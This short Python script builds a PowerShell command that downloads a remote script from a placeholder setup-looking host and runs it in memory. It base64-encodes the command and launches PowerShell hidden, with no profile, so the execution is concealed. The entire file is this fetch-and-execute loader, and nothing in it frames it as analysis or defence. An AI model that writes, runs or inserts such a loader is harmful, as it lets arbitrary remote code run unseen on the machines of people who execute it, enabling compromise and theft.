import base64
import subprocess

cmd = "iex (New-Object Net.WebClient).DownloadString('https://win-setup.example/s.ps1')"
enc = base64.b64encode(cmd.encode("utf-16-le")).decode()
subprocess.run(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", enc])
